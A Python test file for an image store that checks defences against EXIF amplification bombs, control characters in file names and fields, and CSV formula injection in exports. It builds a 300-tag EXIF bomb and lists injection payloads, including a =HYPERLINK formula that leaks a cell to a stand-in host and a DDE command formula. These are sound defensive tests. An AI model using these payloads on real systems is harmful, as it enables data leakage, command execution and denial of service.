"""What a request can make the store keep: EXIF amplification, control characters, formula cells.

- Metadata amplification: a 64 KB PNG whose eXIf chunk has 300 tags pointing at one 60 KB string
  was 18 MB of EXIF JSON per image; what is kept is capped, and lists never read EXIF at all.
- Store inputs: a NUL in a file name answered 503 "database is unavailable" on PostgreSQL; every
  text a client gives (file name, label, model, filters) with control characters is a 400 first.
- Formula injection: the export's CSV wrote `=HYPERLINK(...)` labels as they were.
Each runs on SQLite and, where PostgreSQL is installed, on PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import json
import struct
import time
import tracemalloc
import zipfile
from datetime import UTC, datetime

import numpy as np
import pytest
from PIL import Image
from sqlalchemy import event, insert

from app import create_app
from store.exif import MAX_EXIF_JSON, MAX_EXIF_TAGS, MAX_EXIF_TEXT
from store.records import NewImage, new_id
from store.schema import images
from tests.conftest import data_url, hide_environment, png_bytes
from tests.store.conftest import database_url, postgres_server  # noqa: F401 - fixtures
from training.gallery_export import load_labelled_images


def make_app(monkeypatch, tmp_path, url: str, **overrides):
    """An app on the given database, keeping the images of the model routes."""
    hide_environment(monkeypatch)
    return create_app(
        {
            "SAVE_IMAGES": True,
            "LOG_LEVEL": "ERROR",
            "IMAGE_DIR": str(tmp_path / "images"),
            "DATABASE_URL": url,
            **overrides,
        }
    )


@pytest.fixture
def app(monkeypatch, tmp_path, database_url):  # noqa: F811
    application = make_app(monkeypatch, tmp_path, database_url)
    yield application
    application.extensions["store"].close()


def tiff_block(entries: list[tuple[int, int, int, int]], tail: bytes) -> bytes:
    """A little-endian TIFF block: one IFD of (tag, type, count, value-or-offset), then `tail`."""
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHLL", *e) for e in entries)
    return b"II*\x00" + struct.pack("<L", 8) + body + b"\x00\x00\x00\x00" + tail


def tail_offset(count: int) -> int:
    """Where the data after an IFD of `count` entries starts."""
    return 8 + 2 + 12 * count + 4


def png_with_exif(block: bytes, size: int = 28) -> bytes:
    """A white RGB PNG with a black stroke (a model reads something), carrying `block` as its eXIf chunk."""
    pixels = np.full((size, size, 3), 255, np.uint8)
    pixels[size // 4 : -size // 4, size // 2 - 2 : size // 2 + 2] = 0
    buf = io.BytesIO()
    Image.fromarray(pixels).save(buf, format="PNG", exif=block)
    return buf.getvalue()


def exif_bomb(tags: int = 300, length: int = 60_000) -> bytes:
    """The report's file: `tags` ASCII tags that all point at one `length`-byte string."""
    string = b"A" * (length - 1) + b"\x00"
    return png_with_exif(
        tiff_block([(0xC000 + i, 2, length, tail_offset(tags)) for i in range(tags)], string)
    )


def exif_wide(tags: int = 400, each: int = 300, long: int = 50_000) -> bytes:
    """A block that is large but honest: many distinct strings, one long one, no overlap."""
    count = tags + 1
    offset = tail_offset(count)
    entries, tail = [], b""
    for i in range(tags):
        entries.append((0xC000 + i, 2, each, offset + len(tail)))
        tail += (b"%05d" % i) * (each // 5 - 1) + b"xxxx\x00"
    entries.append((0xC000 + tags, 2, long, offset + len(tail)))
    tail += b"L" * (long - 1) + b"\x00"
    return png_with_exif(tiff_block(entries, tail))


def upload(client, data: bytes, name: str = "photo.png", **fields):
    """POST /images with a multipart file and form fields."""
    form = {"file": (io.BytesIO(data), name), **fields}
    return client.post("/images", data=form, content_type="multipart/form-data")


def raw_upload(client, filename: bytes, data: bytes):
    """POST /images with a hand-made multipart body, so the file name reaches the server byte for byte."""
    boundary = b"xXxBoundaryxXx"
    body = (
        b"--" + boundary + b"\r\n"
        b'Content-Disposition: form-data; name="file"; filename="' + filename + b'"\r\n'
        b"Content-Type: image/png\r\n\r\n" + data + b"\r\n--" + boundary + b"--\r\n"
    )
    return client.post(
        "/images", data=body, content_type=f"multipart/form-data; boundary={boundary.decode()}"
    )


def kept_exif(app, image_id: str) -> dict:
    """The EXIF the store keeps for an image, and check it is strict JSON within the cap."""
    exif = app.extensions["store"].get(image_id).exif
    assert len(json.dumps(exif, allow_nan=False)) <= MAX_EXIF_JSON + 1024
    return exif


def small_png(value: int = 120) -> bytes:
    """An 8x8 grey PNG."""
    return png_bytes(np.full((8, 8), value, np.uint8))


# 4. Metadata amplification


def test_an_exif_bomb_is_not_amplified(app):
    data = exif_bomb()
    assert len(data) < 70_000
    started = time.perf_counter()
    response = upload(app.test_client(), data)
    assert response.status_code == 201, response.get_json()
    assert time.perf_counter() - started < 5
    exif = kept_exif(app, response.get_json()["id"])
    assert set(exif) == {"omitted"} and "declare" in exif["omitted"]
    meta = app.test_client().get(response.get_json()["url"])
    assert len(meta.get_data()) < 20_000


def test_an_exif_bomb_sent_to_a_model_route_is_not_amplified(app):
    client = app.test_client()
    response = client.post("/api/classifier", json={"image": data_url(exif_bomb())})
    assert response.status_code == 200, response.get_json()
    store = app.extensions["store"]
    assert store.flush(30)
    (item,) = client.get("/images").get_json()["items"]
    assert set(kept_exif(app, item["id"])) == {"omitted"}


def test_a_large_honest_exif_is_capped(app):
    response = upload(app.test_client(), exif_wide())
    assert response.status_code == 201
    exif = kept_exif(app, response.get_json()["id"])
    assert "omitted" in exif and "tags over the limits" in exif["omitted"]
    values = [v for k, v in exif.items() if k != "omitted"]
    assert 10 < len(values) <= MAX_EXIF_TAGS
    assert all(len(v) <= MAX_EXIF_TEXT + 40 for v in values if isinstance(v, str))


def test_a_long_exif_string_is_cut():
    from store.exif import read_exif

    long = b"Z" * 30_000 + b"\x00"
    exif = read_exif(png_with_exif(tiff_block([(0x010E, 2, len(long), tail_offset(1))], long)))
    description = exif["ImageDescription"]
    assert description.startswith("ZZZ") and len(description) <= MAX_EXIF_TEXT + 40
    assert "30000 characters" in description


def old_rows(store, count: int, exif_bytes: int) -> None:
    """Insert rows as an older version kept them: each with a large EXIF, and a file on disk."""
    store.ensure_schema()
    now = datetime.now(UTC)
    rows = []
    for i in range(count):
        image_id = new_id()
        relative = store.relative_path(image_id, "PNG")
        (store.image_dir / relative).parent.mkdir(parents=True, exist_ok=True)
        (store.image_dir / relative).write_bytes(small_png(i % 256))
        rows.append(
            {
                "id": image_id,
                "created_at": now,
                "endpoint": "upload",
                "model": "numbers",
                "prediction": "1",
                "confidence": 0.5,
                "label": "1",
                "labelled_at": now,
                "original_name": None,
                "file_name": relative,
                "byte_size": 70,
                "sha256": "0" * 64,
                "format": "PNG",
                "mime": "image/png",
                "width": 8,
                "height": 8,
                "exif": {"UserComment": "A" * exif_bytes},
                "thumb_status": "pending",
                "thumb_error": None,
                "thumb_attempts": 0,
                "thumb_updated_at": now,
            }
        )
    with store.engine.begin() as conn:
        conn.execute(insert(images), rows)


def test_lists_exports_and_thumbnails_never_read_exif(app):
    store = app.extensions["store"]
    old_rows(store, 100, 200_000)
    statements: list[str] = []
    event.listen(store.engine, "before_cursor_execute", lambda *a: statements.append(a[2]))
    client = app.test_client()
    tracemalloc.start()
    try:
        started = time.perf_counter()
        page = client.get("/images?per_page=100")
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert page.status_code == 200 and len(page.get_json()["items"]) == 100
    assert peak < 8_000_000, f"listing 100 images took {peak} bytes"
    assert elapsed < 3
    image_id = page.get_json()["items"][0]["id"]
    assert client.get("/images/export").status_code == 200
    client.get(f"/vignette/{image_id}")
    client.get(f"/images/{image_id}/download")
    reads = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
    assert reads and not [s for s in reads if "exif" in s.lower()], reads
    # One image's metadata still has it.
    assert len(client.get(f"/images/{image_id}").get_json()["exif"]["UserComment"]) == 200_000


# 7. Store inputs


@pytest.mark.parametrize(
    "filename", [b"a\x00b.png", b"\x00", b"tab\x01.png", b"bell\x07.png", b"del\x7f.png", b"esc\x1b[31m.png"]
)
def test_control_characters_in_a_file_name_are_a_client_error(app, filename):
    client = app.test_client()
    response = raw_upload(client, filename, small_png())
    assert response.status_code == 400, (response.status_code, response.get_json())
    assert response.get_json()["code"] == "invalid_filename"
    assert client.get("/images").get_json()["total"] == 0


def test_a_printable_unicode_file_name_is_kept(app):
    client = app.test_client()
    response = raw_upload(client, "photo d'été – 7.png".encode(), small_png())
    assert response.status_code == 201
    assert client.get(response.get_json()["url"]).get_json()["original_name"] == "photo d'été – 7.png"


@pytest.mark.parametrize("text", ["a\x00b", "\x00", "x\ty", "line\nbreak", "c\rr", "\x1b[2J", "\x7f"])
def test_control_characters_in_any_text_field_are_a_client_error(app, text):
    client = app.test_client()
    assert upload(client, small_png(), label=text).status_code == 400
    assert upload(client, small_png(), model=text).status_code == 400
    image_id = upload(client, small_png()).get_json()["id"]
    assert client.post(f"/images/{image_id}/label", json={"label": text}).status_code == 400
    assert client.post(f"/images/{image_id}/label", data={"label": text}).status_code == 400
    for name in ("model", "label", "endpoint"):
        response = client.get("/images", query_string={name: text})
        assert response.status_code == 400, (name, response.status_code)
        assert response.get_json()["code"] == "invalid_parameter"
    assert client.get("/images/export", query_string={"model": text}).status_code == 400
    assert client.get("/images").get_json()["total"] == 1
    assert client.get(f"/images/{image_id}").get_json()["label"] is None


def test_the_store_itself_never_hands_a_nul_to_the_database(app):
    store = app.extensions["store"]
    data = small_png()
    image_id = store.save(
        NewImage(data, "PNG", 8, 8, endpoint="ocr", prediction="12\x0034\n56", original_name="a\x00b.png")
    )
    record = store.get(image_id)
    assert record.original_name == "ab.png" and record.prediction == "1234\n56"


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
]


def test_the_export_escapes_formula_cells(app, tmp_path):
    client = app.test_client()
    for n, label in enumerate(FORMULAS):
        assert upload(client, small_png(n), label=label, model="=evil()").status_code == 201
    store = app.extensions["store"]
    store.save(NewImage(small_png(99), "PNG", 8, 8, endpoint="upload", prediction="=1+1", label="@x"))
    response = client.get("/images/export")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    rows = list(csv.reader(io.StringIO(archive.read("labels.csv").decode("utf-8"))))
    assert len(rows) == len(FORMULAS) + 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    header = rows[0]
    labels = sorted(row[header.index("label")] for row in rows[1:])
    assert labels == sorted("'" + label for label in [*FORMULAS, "@x"])
    # The training reader takes the quote off again: the labels come back as they were stored.
    path = tmp_path / "export.zip"
    path.write_bytes(response.data)
    assert sorted(label for _, label in load_labelled_images(path)) == sorted([*FORMULAS, "@x"])
